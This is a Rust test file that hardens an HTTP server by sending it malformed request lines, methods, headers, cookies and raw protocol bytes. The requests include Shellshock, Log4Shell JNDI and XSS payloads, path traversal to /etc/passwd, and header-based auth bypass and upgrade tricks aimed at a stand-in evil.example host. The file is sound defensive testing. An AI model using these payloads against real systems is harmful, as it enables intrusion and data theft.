//! Request lines and headers.

use super::{Case, Expect, MARK, case, survive};
use crate::support::TestApp;

/// Instead of `GET /health/live HTTP/1.1`.
const LINES: [&str; 40] = [
    "",
    " ",
    "GET",
    "GET ",
    "GET /",
    "GET / ",
    "GET /health/live",
    "GET  /health/live HTTP/1.1",
    "GET /health/live  HTTP/1.1",
    "GET\t/health/live\tHTTP/1.1",
    " GET /health/live HTTP/1.1",
    "GET /health/live HTTP/1.1 ",
    "GET /health/live HTTP/1.1 x",
    "GET /health live HTTP/1.1",
    "GET /health/live HTTP/2.0",
    "GET /health/live HTTP/0.9",
    "GET /health/live HTTP/1.2",
    "GET /health/live HTTP/1",
    "GET /health/live HTTP/11",
    "GET /health/live http/1.1",
    "GET /health/live HTTPS/1.1",
    "GET /health/live ICY/1.1",
    "G\x00T /health/live HTTP/1.1",
    "G(T /health/live HTTP/1.1",
    "G\u{cb}T /health/live HTTP/1.1",
    "GET /\x00 HTTP/1.1",
    "GET /\x7f HTTP/1.1",
    "GET /health\x0blive HTTP/1.1",
    "GET health/live HTTP/1.1",
    "GET * HTTP/1.1",
    "GET localhost:80 HTTP/1.1",
    "GET http:///health/live HTTP/1.1",
    "GET http:// HTTP/1.1",
    "GET http://localhost/health/live HTTP/1.1",
    "GET https://localhost/health/live HTTP/1.1",
    "GET http://evil.example/ HTTP/1.1",
    "GET http://localhost:80@evil.example/ HTTP/1.1",
    "GET //evil.example/health/live HTTP/1.1",
    "GET file:///etc/passwd HTTP/1.1",
    "GET javascript:alert(1) HTTP/1.1",
];

const METHODS: [&str; 24] = [
    "TRACE",
    "TRACK",
    "CONNECT",
    "DEBUG",
    "PURGE",
    "PROPFIND",
    "PROPPATCH",
    "MKCOL",
    "COPY",
    "MOVE",
    "LOCK",
    "SEARCH",
    "BREW",
    "get",
    "Get",
    "gET",
    "GETS",
    "XGET",
    "PRI",
    "INVOKE",
    "LINK",
    "RPC_IN_DATA",
    "zQ9kX7",
    "!#$%&'*+-.^_`|~",
];

/// Beside a good request line.
const HEADERS: [&str; 30] = [
    ": x",
    "\0: x",
    "X\0: y",
    "X: a\0b",
    "X : y",
    "X\t: y",
    " X: y",
    "X",
    "X y",
    "X: a\rb",
    "X: a\r\n folded",
    "X: a\r\n\tfolded",
    "(X): y",
    "X[]: y",
    "X\"Y: z",
    "X@Y: z",
    "X\u{e9}: y",
    "X: \x01",
    "X: \x1b[2J",
    "X: \x7f",
    "\u{feff}X: y",
    "X\x0b: y",
    "X: \x0b",
    "X,Y: z",
    "X;Y: z",
    "X=Y: z",
    "{X}: y",
    "<X>: y",
    "X/Y: z",
    "X\\Y: z",
];

/// Said beside a request that would be answered: it makes no difference, or is refused.
const WISHES: [&str; 30] = [
    "X-Original-URL: /auth/me",
    "X-Rewrite-URL: /admin/users",
    "X-Forwarded-Prefix: /zQ9kX7",
    "X-Forwarded-Host: zQ9kX7.example",
    "X-Host: zQ9kX7.example",
    "X-Forwarded-Server: zQ9kX7.example",
    "X-Forwarded-Scheme: http",
    "X-Forwarded-Proto: zQ9kX7",
    "X-Forwarded-Port: 1",
    "X-Forwarded-For: zQ9kX7",
    "Forwarded: for=\"zQ9kX7",
    "Forwarded: host=zQ9kX7.example",
    "X-Real-IP: 127.0.0.1",
    "X-Custom-IP-Authorization: 127.0.0.1",
    "X-Forwarded-User: ada",
    "X-Remote-User: ada",
    "X-Authenticated-User: ada",
    "X-User-Id: 1",
    "X-Wap-Profile: http://evil.example/zQ9kX7",
    "Referer: http://evil.example/zQ9kX7",
    "User-Agent: () { :; }; echo zQ9kX7",
    "User-Agent: ${jndi:ldap://evil.example/zQ9kX7}",
    "Accept: zQ9kX7<svg/onload=k(1)>",
    "Accept-Language: zQ9kX7",
    "Range: bytes=0-,0-,0-,0-",
    "If-Range: zQ9kX7",
    "Expect: zQ9kX7",
    "Expect: 100-continue",
    "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings",
    "Via: 1.1 zQ9kX7\r\nMax-Forwards: 0",
];

/// Cookies that are none, or far too much.
fn cookies() -> Vec<String> {
    let mut cookies: Vec<String> = [
        "jarvis_access=zQ9kX7",
        "jarvis_access=",
        "jarvis_access=a; jarvis_access=b",
        "jarvis_access",
        "=",
        ";;;;",
        "a=\"zQ9kX7",
        "jarvis_refresh=zQ9kX7",
        "$Version=1; jarvis_access=zQ9kX7; $Path=/",
        "jarvis_access=%00",
        "__Host-jarvis_access=zQ9kX7",
        "jarvis_access=../../etc/passwd",
    ]
    .map(str::to_owned)
    .into();
    cookies.push(format!("jarvis_access={}", "e".repeat(12_000)));
    cookies.push("a=b; ".repeat(2_000));
    cookies
}

fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for line in LINES {
        let bytes = format!("{line}\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        cases.push(case(format!("{line:?}"), bytes, Expect::Refused));
    }
    for method in METHODS {
        for path in ["/health/live", "/", "/nothing", "/auth/login", "/ws", "*"] {
            let bytes = format!("{method} {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            cases.push(case(format!("{method} {path}"), bytes, Expect::Refused));
        }
    }
    for header in HEADERS {
        let bytes =
            format!("GET /health/live HTTP/1.1\r\nHost: localhost\r\n{header}\r\nConnection: close\r\n\r\n");
        let is_text = ["X: \x1b[2J", "X: \x01", "X: \x7f", "X: \x0b"].contains(&header);
        let expect = if is_text { Expect::Only(&[400, 200]) } else { Expect::Refused };
        cases.push(case(format!("{header:?}"), bytes, expect));
    }
    for wish in WISHES {
        let bytes =
            format!("GET /health/live HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n{wish}\r\n\r\n");
        cases.push(case(wish, bytes, Expect::Any));
        let bytes =
            format!("GET /auth/me HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n{wish}\r\n\r\n");
        cases.push(case(format!("{wish} at /auth/me"), bytes, Expect::Only(&[401])));
    }
    for cookie in cookies() {
        let bytes = format!(
            "GET /auth/me HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nCookie: {cookie}\r\n\r\n"
        );
        cases.push(case(format!("cookie {}", &cookie[..cookie.len().min(40)]), bytes, Expect::Refused));
    }
    for (what, bytes) in [
        ("a hello of TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec()),
        ("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec()),
        ("SSH", b"SSH-2.0-zQ9kX7\r\n".to_vec()),
        ("RESP", b"*1\r\n$4\r\nPING\r\n".to_vec()),
        ("SMTP", b"EHLO zQ9kX7\r\nMAIL FROM:<a@b>\r\n\r\n".to_vec()),
        ("nothing but line ends", b"\r\n".repeat(5_000)),
        ("nothing but NUL", vec![0; 20_000]),
        ("nothing but FF", vec![0xff; 20_000]),
        ("a line without end", b"A".repeat(70_000)),
        ("a path without end", format!("GET /{} HTTP/1.1\r\n\r\n", "zQ9kX7".repeat(10_000)).into_bytes()),
        (
            "a header without end",
            format!("GET / HTTP/1.1\r\nHost: localhost\r\nX: {}\r\n\r\n", "a".repeat(70_000)).into_bytes(),
        ),
        (
            "a name without end",
            format!("GET / HTTP/1.1\r\nHost: localhost\r\n{}: a\r\n\r\n", "a".repeat(70_000)).into_bytes(),
        ),
        (
            "headers without end",
            format!("GET / HTTP/1.1\r\nHost: localhost\r\n{}\r\n", "X: y\r\n".repeat(5_000)).into_bytes(),
        ),
        (
            "a query of ours",
            format!(
                "GET /auth/me?{} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
                MARK.replace('<', "%3C")
            )
            .into_bytes(),
        ),
        ("bare line feeds and a bad header", b"GET /health/live HTTP/1.1\nHost: evil.example\n\n".to_vec()),
    ] {
        cases.push(case(what, bytes, Expect::Refused));
    }
    cases
}

#[tokio::test]
async fn no_head_is_taken_for_what_it_is_not() {
    let app = TestApp::start().await;
    let ada = app.ada().await;
    survive(&app, &ada, cases(), 250).await;
    app.stop().await;
}
